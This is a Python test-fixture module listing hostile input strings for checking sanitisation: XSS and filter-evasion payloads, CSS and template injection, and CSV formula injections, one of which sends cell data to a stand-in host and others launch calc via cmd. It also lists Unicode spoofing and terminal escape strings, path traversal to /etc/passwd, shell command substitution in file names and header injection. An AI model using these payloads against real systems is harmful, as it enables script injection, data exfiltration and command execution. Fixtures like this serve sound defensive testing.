"""Texts that are more than texts somewhere: in markup, scripts, tables, terminals, file names.

After the cheat sheets of OWASP (XSS filter evasion, CSV injection) and the Trojan Source paper.
What runs sets `MARK` on the window of the page; what loads asks `HOST`, which does not exist.
"""

from __future__ import annotations

MARK = "cncRan"
HOST = "cnc-attack.invalid"

_RUN = f"top.{MARK}=1"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea></title></style></noscript><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"</text></svg><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script><![CDATA[",
    f'<!--<img src="--><img src=x onerror={_RUN}>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>">',
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f"<input autofocus onfocus={_RUN}><details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video><audio src=x onerror={_RUN}>",
    f"<a href='javascript:{_RUN}' id=root name=body>a link</a>",
    f"<base href=//{HOST}/><link rel=stylesheet href=//{HOST}/a.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<style>@import '//{HOST}/a.css';*{{background:url(//{HOST}/b)}}</style>",
    f"<form action=//{HOST}/><button>a button</button></form>",
    f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;{_RUN}",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)
_CODE = (
    f"javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}//",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"'-({_RUN})-'",
    f'"-({_RUN})-"',
    f"\u2028{_RUN}//\u2029",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}`${{{_RUN}}}`",
    f"<%= {_RUN} %>#{{{_RUN}}}[[${{{_RUN}}}]]",
    f"{{@html '<img src=x onerror={_RUN}>'}}",
    f"red;background:url(//{HOST}/c);--x:",
    f"url(#a);fill:url(//{HOST}/d)",
    f"expression({_RUN})",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
)
_FORMULAS = (
    f'=HYPERLINK("https://{HOST}/","open")',
    f'=WEBSERVICE("https://{HOST}/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\x00=1+1",
    '","=1+1","',
    '"\r\n=1+1',
    "a;=1+1",
)
_SCREENS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067dense\u2069 \u2069",
    "\u200bdense\u200d\ufeff",
    "d\u0435nse",
    "Z\u0335\u0321\u0322" + "\u0336" * 400,
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m",
    "a\x00b\x08\x7f\x85c",
    "\ufdfd\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "w" * 100_000,
    "two\nlines\r\nand\ta tab",
)
_NAMES = (
    "../../../etc/passwd",
    "..\\..\\autoexec.bat",
    "CON",
    'a/b\\c:d*e?f"<>|',
    "%2e%2e%2f%00",
    "$(touch x)`touch y`; touch z",
    "%s%n%d{0}{a.__class__}",
    "a\r\nSet-Cookie: a=1\r\n\r\n<script>",
    "#cnc&p.cnc.at=layers",
    "?a=1&b=2;c=3",
)

TEXTS = (*_MARKUP, *_CODE, *_FORMULAS, *_SCREENS, *_NAMES)
